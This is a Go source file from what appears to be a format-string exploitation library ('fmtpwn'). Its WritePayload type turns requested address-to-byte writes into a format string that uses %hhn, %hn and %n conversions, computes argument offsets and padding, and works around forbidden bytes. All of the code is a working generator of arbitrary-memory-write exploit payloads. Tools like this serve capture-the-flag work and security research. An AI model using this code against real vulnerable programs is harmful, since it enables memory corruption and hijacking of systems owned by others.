package fmtpwn

import (
	"fmt"
	"sort"
	"strconv"

	"github.com/xyproto/fmtpwn/arch"
)

// fillerByte is the fixed non-special byte used to advance the output
// counter by a small delta, distinct from settings.PaddingByte which only
// pads the final alignment gap.
const fillerByte = 'A'

// widthSpecifier maps a store width in bytes to its %n-family conversion
// suffix. Width 8 is never produced by fusion.
var widthSpecifier = map[int]string{
	1: "hhn",
	2: "hn",
	4: "n",
}

// WritePayload accumulates arbitrary (address -> byte) write requests and
// synthesizes a format string that performs them via %n-family writes.
type WritePayload struct {
	memory map[arch.Address]byte
}

// NewWritePayload returns an empty WritePayload.
func NewWritePayload() *WritePayload {
	return &WritePayload{memory: make(map[arch.Address]byte)}
}

// Set records a single byte write at addr, overwriting any prior entry.
func (w *WritePayload) Set(addr arch.Address, value byte) {
	w.memory[addr] = value
}

// SetBytes expands a byte sequence into per-byte entries starting at base,
// overwriting on conflict with any bytes already recorded.
func (w *WritePayload) SetBytes(base arch.Address, data []byte) {
	for i, b := range data {
		w.memory[base+arch.Address(i)] = b
	}
}

// Len reports how many distinct addresses are currently mapped.
func (w *WritePayload) Len() int {
	return len(w.memory)
}

// storeOp is a single %N$<width>n-family write: when the output counter
// reaches Value, a Width-byte store lands at Addr.
type storeOp struct {
	Addr  arch.Address
	Value uint64
	Width int
}

// Generate synthesizes the write payload per settings, with startLen bytes
// already counted as printed before this payload begins.
func (w *WritePayload) Generate(settings *PayloadSettings, startLen int) ([]byte, error) {
	if len(w.memory) == 0 {
		return nil, emptyWriteErr()
	}

	stores, err := fuseStores(w.memory, settings.Arch, settings.ForbiddenBytes)
	if err != nil {
		return nil, err
	}

	sort.Slice(stores, func(i, j int) bool { return stores[i].Value < stores[j].Value })

	if uint64(startLen) > stores[0].Value {
		return nil, startLenTooLargeErr(startLen, stores[0].Value)
	}

	wordBytes := settings.Arch.WordBytes()
	startOffset, err := solveStartOffset(stores, settings, startLen, wordBytes)
	if err != nil {
		return nil, err
	}

	out, err := emit(stores, settings, startLen, startOffset, wordBytes)
	if err != nil {
		return nil, err
	}

	if b, bad := scanForbidden(out, settings.ForbiddenBytes); bad {
		return nil, forbiddenByteErr(b, "write payload")
	}
	return out, nil
}

// fuseStores walks the byte map in ascending address order, coalescing
// adjacent bytes into 1/2/4-byte store operations.
func fuseStores(memory map[arch.Address]byte, architecture arch.Architecture, forbidden map[byte]bool) ([]storeOp, error) {
	addrs := make([]arch.Address, 0, len(memory))
	for a := range memory {
		addrs = append(addrs, a)
	}
	sort.Slice(addrs, func(i, j int) bool { return addrs[i] < addrs[j] })

	var stores []storeOp
	for i := 0; i < len(addrs); {
		addr := addrs[i]

		packed, err := architecture.PackAddress(addr)
		if err != nil {
			return nil, err
		}

		if _, bad := scanForbidden(packed, forbidden); bad {
			store, consumed, err := fuseUnreachable(memory, architecture, forbidden, addr)
			if err != nil {
				return nil, err
			}
			stores = append(stores, store)
			i += consumed
			continue
		}

		b0 := memory[addr]
		v1, has1 := memory[addr+1]
		v2, has2 := memory[addr+2]
		v3, has3 := memory[addr+3]

		if has1 && has2 && has3 {
			val, _ := arch.UnpackWord([]byte{b0, v1, v2, v3}, architecture.Endian)
			if val <= 0xFFFF {
				stores = append(stores, storeOp{Addr: addr, Value: val, Width: 4})
				i += 4
				continue
			}
		}
		if has1 {
			val, _ := arch.UnpackWord([]byte{b0, v1}, architecture.Endian)
			stores = append(stores, storeOp{Addr: addr, Value: val, Width: 2})
			i += 2
			continue
		}
		stores = append(stores, storeOp{Addr: addr, Value: uint64(b0), Width: 1})
		i++
	}
	return stores, nil
}

// fuseUnreachable handles fusion's Case A: the target address's own packed
// representation contains a forbidden byte, so the store is shifted one
// byte left. Returns the produced store and how many addresses from the
// sorted walk it consumed.
func fuseUnreachable(memory map[arch.Address]byte, architecture arch.Architecture, forbidden map[byte]bool, addr arch.Address) (storeOp, int, error) {
	shifted := addr - 1
	packedShift, err := architecture.PackAddress(shifted)
	if err != nil {
		return storeOp{}, 0, err
	}
	if b, bad := scanForbidden(packedShift, forbidden); bad {
		return storeOp{}, 0, forbiddenByteErr(b, fmt.Sprintf("address %s is unreachable: shifting by one byte still collides", addr))
	}

	lowByte := byte(0)
	if v, present := memory[shifted]; present {
		lowByte = v
	}
	b0 := memory[addr]
	v1, has1 := memory[addr+1]
	v2, has2 := memory[addr+2]

	if has1 && has2 {
		val, _ := arch.UnpackWord([]byte{lowByte, b0, v1, v2}, architecture.Endian)
		if val <= 0xFFFF {
			return storeOp{Addr: shifted, Value: val, Width: 4}, 3, nil
		}
	}
	val, _ := arch.UnpackWord([]byte{lowByte, b0}, architecture.Endian)
	return storeOp{Addr: shifted, Value: val, Width: 2}, 1, nil
}

// payloadLenForOffset measures the length of the directive section if the
// first store's varargs index is startOffset and each subsequent store
// takes the next integer index.
func payloadLenForOffset(stores []storeOp, startLen, startOffset int) int {
	current := startLen
	index := startOffset
	total := 0
	for _, s := range stores {
		delta := int(s.Value) - current
		if delta > 2 {
			total += len(strconv.Itoa(delta)) + 2 // "%<delta>c"
		} else {
			total += delta
		}
		total += 1 + len(strconv.Itoa(index)) + 1 + len(widthSpecifier[s.Width]) // "%<index>$<specifier>"
		current = int(s.Value)
		index++
	}
	return total
}

// maxFixpointIterations bounds the downward fixpoint loop. The sequence is
// mathematically guaranteed to terminate (monotonically non-increasing,
// bounded below by settings.Offset); this cap only guards against a bug
// turning that guarantee into an infinite loop.
const maxFixpointIterations = 10000

// solveStartOffset finds the varargs index of the first store's address
// slot, solving the cyclic dependency between payload length and the
// digit-width of the indices it contains.
func solveStartOffset(stores []storeOp, settings *PayloadSettings, startLen, wordBytes int) (int, error) {
	startOffset := 1_000_000
	for iter := 0; ; iter++ {
		if iter > maxFixpointIterations {
			return 0, internalInvariantErr("write payload: fixpoint did not converge")
		}
		payloadLen := payloadLenForOffset(stores, startLen, startOffset)
		rem := startLen - settings.Padding
		if rem < 0 {
			rem = 0
		}
		newStart := settings.Offset + ceilDiv(rem+payloadLen, wordBytes)
		if newStart < startOffset {
			startOffset = newStart
			continue
		}
		return startOffset, nil
	}
}

// emit renders the directive section, the alignment padding, and the
// address block, in that order.
func emit(stores []storeOp, settings *PayloadSettings, startLen, startOffset, wordBytes int) ([]byte, error) {
	directives := newDirectiveBuffer("write-directives")
	var addresses []byte

	current := startLen
	index := startOffset
	for _, s := range stores {
		delta := int(s.Value) - current
		if delta > 2 {
			directives.WriteString(fmt.Sprintf("%%%dc", delta))
		} else {
			directives.WriteRepeated(fillerByte, delta)
		}
		directives.WriteString(fmt.Sprintf("%%%d$%s", index, widthSpecifier[s.Width]))

		addrBytes, err := settings.Arch.PackAddress(s.Addr)
		if err != nil {
			return nil, err
		}
		addresses = append(addresses, addrBytes...)

		current = int(s.Value)
		index++
	}
	directives.Commit()

	pad := settings.Padding + wordBytes*(startOffset-settings.Offset) - startLen - directives.Len()
	if pad < 0 {
		return nil, internalInvariantErr("write payload: computed negative alignment padding")
	}

	out := make([]byte, 0, directives.Len()+pad+len(addresses))
	out = append(out, directives.Bytes()...)
	for i := 0; i < pad; i++ {
		out = append(out, settings.PaddingByte)
	}
	out = append(out, addresses...)
	return out, nil
}
